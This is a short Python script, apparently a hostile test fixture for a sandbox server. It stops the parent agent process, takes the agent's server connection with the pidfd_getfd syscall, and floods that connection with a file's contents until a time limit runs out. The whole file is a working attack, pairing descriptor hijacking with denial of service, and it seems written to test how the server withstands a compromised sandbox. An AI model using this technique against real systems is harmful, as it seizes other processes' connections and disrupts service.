"""Runs in a sandbox: takes the agent's link from it and floods the server with what a file holds, again and again.

Root in a guest can do this. So can code in a sandbox of the driver `unisolated`. Use: `hostile.py FLOOD SECONDS`.
"""

import ctypes
import os
import select
import signal
import sys
import time

PIDFD_GETFD = 438


def link() -> int:
    """The agent's end of the link to the server. The agent is our parent."""
    agent = os.getppid()
    words = open(f"/proc/{agent}/cmdline").read().split("\0")  # noqa: SIM115
    number = int(words[words.index("--fd") + 1])
    os.kill(agent, signal.SIGSTOP)
    libc = ctypes.CDLL(None, use_errno=True)
    taken = libc.syscall(PIDFD_GETFD, os.pidfd_open(agent), number, 0)
    assert taken >= 0, os.strerror(ctypes.get_errno())
    return taken


def main() -> None:
    """Flood until the server has had enough, or until the time is over."""
    os.nice(19)
    with open(sys.argv[1], "rb") as file:
        flood = memoryview(file.read())
    until = time.monotonic() + float(sys.argv[2])
    taken = link()
    rest = flood
    while time.monotonic() < until:
        if select.select([], [taken], [], 1)[1]:
            try:
                rest = rest[os.write(taken, rest) :] or flood
            except BlockingIOError:
                pass
            except OSError:  # the server has ended the sandbox
                return


main()
